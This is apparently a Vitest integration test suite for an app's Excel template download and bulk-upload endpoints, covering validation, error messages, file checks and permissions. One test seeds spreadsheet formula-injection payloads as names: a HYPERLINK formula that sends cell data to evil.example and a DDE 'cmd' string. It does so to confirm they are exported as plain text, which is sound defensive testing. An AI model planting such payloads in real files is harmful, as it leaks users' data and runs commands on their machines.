import ExcelJS from 'exceljs';
import { eq, inArray } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { endpoints } from '@shared';
import * as s from '../../../server/src/db/schema';
import { type TestServer, startTestServer } from '../../support/test-server';
import { type Reference, XLSX, dbOf, fileForm, fillTemplate, readWorkbook, seedReference, tokenWithClaims } from './excel.fixtures';

describe('Excel templates and uploads', () => {
  let t: TestServer;
  let token: string;
  let ref: Reference;
  beforeAll(async () => {
    t = await startTestServer();
    token = await t.adminToken();
    ref = await seedReference(t);
  });
  afterAll(() => t.cleanup());

  const download = async (endpoint: (typeof endpoints)['roomTemplate']) => {
    const res = await t.api.call<Buffer>(endpoint, { token });
    expect(res.status).toBe(200);
    return res;
  };
  const upload = (endpoint: (typeof endpoints)['uploadRoom'], bytes: Uint8Array, lang?: 'en' | 'ar', name = 'sheet.xlsx') =>
    t.api.call(endpoint, { token, lang, form: fileForm(bytes, name, XLSX) });

  it.each([
    ['roomTypeTemplate', 'RoomTypeTemplate', ['roomTypeCode', 'nameEn', 'nameAr']],
    ['roomTemplate', 'RoomTemplate', ['number', 'hotelCode', 'useTypeCode', 'roomTypeCode', 'floor', 'zone']],
    ['serviceTemplate', 'ServiceTemplate', ['serviceCode', 'nameEn', 'nameAr', 'serviceGroupCode', 'departmentCode', 'acknowledgeMinutes', 'completeMinutes', 'searchWordsEn', 'searchWordsAr']],
    ['workerTemplate', 'WorkerTemplate', ['workerCode', 'name', 'phoneNumber', 'departmentCode', 'nameAr', 'hotelCodes']],
    ['userTemplate', 'UserTemplate', ['userCode', 'firstName', 'lastName', 'email', 'phoneNumber', 'hotelCodes', 'departmentCodes', 'language']],
  ] as const)('%s is a real .xlsx named %s with the field names as headers and a bilingual instructions sheet', async (key, name, headers) => {
    const res = await download(endpoints[key]);
    expect(res.headers.get('content-type')).toBe(XLSX);
    expect(res.headers.get('content-disposition')).toBe(`attachment; filename="${name}.xlsx"`);
    const wb = await readWorkbook(res.body);
    const data = wb.worksheets[0];
    expect((data.getRow(1).values as unknown[]).slice(1)).toEqual(headers);
    const instructions = wb.getWorksheet('Instructions')!;
    const text: string[] = [];
    instructions.eachRow((row) => row.eachCell((cell) => text.push(String(cell.value))));
    expect(text.join('\n')).toContain('How to fill in this template');
    expect(text.join('\n')).toContain('طريقة تعبئة هذا القالب');
    for (const header of headers) expect(text).toContain(header);
  });

  it('offers the reference codes as dropdowns from a hidden lookup sheet', async () => {
    const wb = await readWorkbook((await download(endpoints.roomTemplate)).body);
    const lookups = wb.getWorksheet('Lookups')!;
    expect(lookups.state).toBe('hidden');
    const rooms = wb.worksheets[0];
    const hotelRule = rooms.getCell('B2').dataValidation;
    expect(hotelRule.type).toBe('list');
    expect(hotelRule.showErrorMessage).toBe(true);
    // The rule points at a range of the lookup sheet that holds exactly the hotel codes.
    const [, from, to] = /^Lookups!\$([A-Z]+\$\d+):\$([A-Z]+\$\d+)$/.exec(hotelRule.formulae![0])!;
    const codes: string[] = [];
    const [col, first] = from.split('$');
    const last = Number(to.split('$')[1]);
    for (let r = Number(first); r <= last; r++) codes.push(String(lookups.getCell(`${col}${r}`).value));
    expect(codes).toEqual(['H1', 'H2']);
    expect(rooms.getCell('C500').dataValidation?.type).toBe('list');
    expect(rooms.getCell('D2').dataValidation.formulae![0]).toMatch(/^Lookups!/);
    // The user template's comma-separated columns get a dropdown that does not refuse lists.
    const users = (await readWorkbook((await download(endpoints.userTemplate)).body)).worksheets[0];
    expect(users.getCell('F2').dataValidation.type).toBe('list');
    expect(users.getCell('F2').dataValidation.showErrorMessage).toBeFalsy();
  });

  it('writes names and codes from the database into a template as text, never as formulas (a name like =HYPERLINK(...))', async () => {
    const evil = ['=HYPERLINK("https://evil.example/?x="&A1,"Open")', "+cmd|' /C calc'!A0", '-1+1', '@SUM(1)', '\t=1+1'];
    const rows = await dbOf(t)
      .insert(s.roomTypes)
      .values(evil.map((nameEn, i) => ({ roomTypeCode: i === 0 ? '=1+1' : `EVIL${i}`, nameEn, nameAr: nameEn })))
      .returning();
    try {
      const wb = await readWorkbook((await download(endpoints.roomTemplate)).body);
      const texts: string[] = [];
      for (const sheet of wb.worksheets)
        sheet.eachRow((row) =>
          row.eachCell((cell) => {
            expect(cell.type, `${sheet.name}!${cell.address}`).not.toBe(ExcelJS.ValueType.Formula);
            expect(cell.formula, `${sheet.name}!${cell.address}`).toBeUndefined();
            if (typeof cell.value === 'string') texts.push(cell.value);
          }),
        );
      expect(texts).toEqual(expect.arrayContaining(['=1+1', ...evil]));
    } finally {
      await dbOf(t).delete(s.roomTypes).where(inArray(s.roomTypes.id, rows.map((r) => r.id)));
    }
  });

  it('imports a filled room template in one go and says so in the caller language', async () => {
    const template = (await download(endpoints.roomTemplate)).body;
    const file = await fillTemplate(template, [
      ['101', 'H1', 'GUEST', 'STD'],
      [102, 'H1', 'GUEST', 'STD'],
      [],
      ['101', 'H2', 'GUEST', 'std'],
    ]);
    const res = await upload(endpoints.uploadRoom, file, 'ar');
    expect(res.status).toBe(200);
    expect(res.body).toEqual({ message: 'تم رفع الملف بنجاح. الصفوف المستوردة: 3', id: 3 });
    const rows = await dbOf(t).select().from(s.rooms);
    expect(rows.map((r) => [r.number, r.hotelId]).sort()).toEqual([
      ['101', ref.hotelId],
      ['101', ref.hotel2Id],
      ['102', ref.hotelId],
    ].sort());
    expect(rows.every((r) => r.roomTypeId === ref.roomTypeId && r.useTypeId === ref.useTypeId)).toBe(true);
  });

  it('imports nothing when 3 rows are bad and names every one of them by row and column', async () => {
    const before = (await dbOf(t).select().from(s.rooms)).length;
    const file = await fillTemplate((await download(endpoints.roomTemplate)).body, [
      ['201', 'H1', 'GUEST', 'STD'],
      ['202', 'NOPE', 'GUEST', 'STD'],
      ['', 'H1', 'GUEST', 'STD'],
      ['204', 'H1', 'GUEST', 'STD'],
      ['205', 'H1', 'GUEST', 'XXX'],
    ]);
    const res = await upload(endpoints.uploadRoom, file);
    expect(res.status).toBe(400);
    expect(res.body.message).toBe('Nothing was imported: 3 problem(s) found in the file');
    expect(res.body.rowErrors).toEqual([
      { row: 3, column: 'hotelCode', message: 'Unknown code "NOPE"' },
      { row: 4, column: 'number', message: 'This field is required' },
      { row: 6, column: 'roomTypeCode', message: 'Unknown code "XXX"' },
    ]);
    expect((await dbOf(t).select().from(s.rooms)).length).toBe(before);
    const ar = await upload(endpoints.uploadRoom, file, 'ar');
    expect(ar.body.rowErrors[0].message).toBe('رمز غير معروف "NOPE"');
  });

  it('refuses codes repeated within the file and codes already in the database', async () => {
    const file = await fillTemplate((await download(endpoints.roomTemplate)).body, [
      ['301', 'H1', 'GUEST', 'STD'],
      ['301', 'H1', 'GUEST', 'STD'],
      ['101', 'H1', 'GUEST', 'STD'],
    ]);
    const res = await upload(endpoints.uploadRoom, file);
    expect(res.status).toBe(400);
    expect(res.body.rowErrors).toEqual([
      { row: 3, column: 'number', message: 'Duplicate of row 2 in this file' },
      { row: 4, column: 'number', message: '"101" already exists' },
    ]);
    expect(await dbOf(t).select().from(s.rooms).where(eq(s.rooms.number, '301'))).toEqual([]);
  });

  it('imports room types, services and workers and checks their codes', async () => {
    const roomTypes = await fillTemplate((await download(endpoints.roomTypeTemplate)).body, [
      ['DLX', 'Deluxe', 'ديلوكس'],
      ['STE', 'Suite', 'جناح'],
    ]);
    expect((await upload(endpoints.uploadRoomType, roomTypes)).body).toEqual({ message: 'File Uploaded Successfully. Rows imported: 2', id: 2 });
    expect((await upload(endpoints.uploadRoomType, roomTypes)).body.rowErrors).toEqual([
      { row: 2, column: 'roomTypeCode', message: '"DLX" already exists' },
      { row: 3, column: 'roomTypeCode', message: '"STE" already exists' },
    ]);

    const services = await fillTemplate((await download(endpoints.serviceTemplate)).body, [
      ['S1', 'Towels', 'مناشف', 'HK', 'D1'],
      ['S2', ' special request ', 'طلب خاص', 'HK', 'D1'],
    ]);
    expect((await upload(endpoints.uploadService, services)).status).toBe(200);
    const stored = await dbOf(t).select().from(s.services);
    expect(stored.map((r) => [r.serviceCode, r.isSpecial, r.departmentId]).sort()).toEqual([
      ['S1', false, ref.departmentId],
      ['S2', true, ref.departmentId],
    ]);

    const workers = await fillTemplate((await download(endpoints.workerTemplate)).body, [
      ['W1', 'Ali Hassan', '+966 50 123 4567', 'D1', null, 'H1'],
      ['W2', 'Sara Ali', '0501234567', null, null, 'H1, H2'],
      ['W3', 'No Phone', 'call me', null, null, 'H1'],
      // A worker serves at least one hotel, and only hotels that exist.
      ['W4', 'No Hotel', '0501234568', null, null, null],
      ['W5', 'Far Hotel', '0501234569', null, null, 'NOPE'],
    ]);
    const bad = await upload(endpoints.uploadWorker, workers);
    expect(bad.status).toBe(400);
    expect(bad.body.rowErrors).toEqual([
      { row: 4, column: 'phoneNumber', message: 'Enter a valid phone number' },
      { row: 5, column: 'hotelCodes', message: expect.any(String) },
      { row: 6, column: 'hotelCodes', message: 'Unknown code "NOPE"' },
    ]);
    const good = await fillTemplate((await download(endpoints.workerTemplate)).body, [
      ['W1', 'Ali Hassan', '+966 50 123 4567', 'D1', null, 'H1'],
      ['W2', 'Sara Ali', '0501234567', null, null, 'H1, H2'],
    ]);
    expect((await upload(endpoints.uploadWorker, good)).status).toBe(200);
    const stored2 = await dbOf(t).select().from(s.workers);
    expect(stored2.map((w) => [w.workerCode, w.departmentId]).sort()).toEqual([
      ['W1', ref.departmentId],
      ['W2', null],
    ]);
    // Each worker serves the sheet's hotels.
    const served = await dbOf(t)
      .select({ code: s.workers.workerCode, hotel: s.hotels.hotelCode })
      .from(s.workerHotels)
      .innerJoin(s.workers, eq(s.workers.id, s.workerHotels.workerId))
      .innerJoin(s.hotels, eq(s.hotels.id, s.workerHotels.hotelId));
    expect(served.map((r) => `${r.code}:${r.hotel}`).sort()).toEqual(['W1:H1', 'W2:H1', 'W2:H2']);
  });

  it('judges a file by its bytes: a renamed text file is 415, an old .xls asks to save as .xlsx', async () => {
    const text = await upload(endpoints.uploadRoom, new TextEncoder().encode('number,hotelCode\n1,H1\n'), 'en', 'rooms.xlsx');
    expect(text.status).toBe(415);
    expect(text.body.message).toBe('This file is not an Excel workbook: upload the .xlsx template');
    const ole = new Uint8Array(4096);
    ole.set([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]);
    const xls = await upload(endpoints.uploadRoom, ole, 'en', 'rooms.xls');
    expect(xls.status).toBe(415);
    expect(xls.body.message).toContain('save it as .xlsx');
    const zip = await upload(endpoints.uploadRoom, new Uint8Array([0x50, 0x4b, 0x03, 0x04, 1, 2, 3]), 'ar');
    expect(zip.status).toBe(415);
    expect(zip.body.message).toBe('تعذرت قراءة المصنف: احفظه مجددًا بصيغة ‎.xlsx وحاول مرة أخرى');
  });

  it('answers 400 for a template without data rows, a sheet missing columns, or no file at all', async () => {
    const empty = await upload(endpoints.uploadRoom, (await download(endpoints.roomTemplate)).body);
    expect(empty.status).toBe(400);
    expect(empty.body.message).toBe('The sheet has no data rows to import');
    const wrong = await upload(endpoints.uploadRoom, await fillTemplate((await download(endpoints.roomTypeTemplate)).body, [['X', 'a', 'b']]));
    expect(wrong.status).toBe(400);
    expect(wrong.body.message).toContain('useTypeCode');
    const form = new FormData();
    form.append('note', 'no file');
    const none = await t.api.call(endpoints.uploadRoom, { token, form });
    expect(none.status).toBe(400);
    expect(none.body.message).toBe('Choose an Excel file to upload');
    const json = await t.api.call(endpoints.uploadRoom, { token, body: { file: 'x' } });
    expect(json.status).toBe(415);
  });

  it('refuses a sheet over 10 MB with 413', async () => {
    const big = new Uint8Array(10 * 1024 * 1024 + 10);
    big.set([0x50, 0x4b, 0x03, 0x04]);
    const res = await upload(endpoints.uploadRoom, big);
    expect(res.status).toBe(413);
    expect(res.body.message).toBe('Each file must be at most 10 MB');
  });

  it('needs the claim of the screen: 401 without a token, 403 without the claim', async () => {
    const viewer = await tokenWithClaims(t, ['Basic Data.Room.View']);
    expect((await t.api.call(endpoints.roomTemplate)).status).toBe(401);
    expect((await t.api.call(endpoints.roomTemplate, { token: viewer })).status).toBe(403);
    const file = await fillTemplate((await download(endpoints.roomTemplate)).body, [['901', 'H1', 'GUEST', 'STD']]);
    const res = await t.api.call(endpoints.uploadRoom, { token: viewer, form: fileForm(file, 'r.xlsx', XLSX) });
    expect(res.status).toBe(403);
    expect(await dbOf(t).select().from(s.rooms).where(eq(s.rooms.number, '901'))).toEqual([]);
    // Rooms go only into the uploader's hotels (master-data-scope.test.ts).
    const creator = await tokenWithClaims(t, ['Basic Data.Room.Create'], [ref.hotelId]);
    expect((await t.api.call(endpoints.uploadRoom, { token: creator, form: fileForm(file, 'r.xlsx', XLSX) })).status).toBe(200);
  });
});
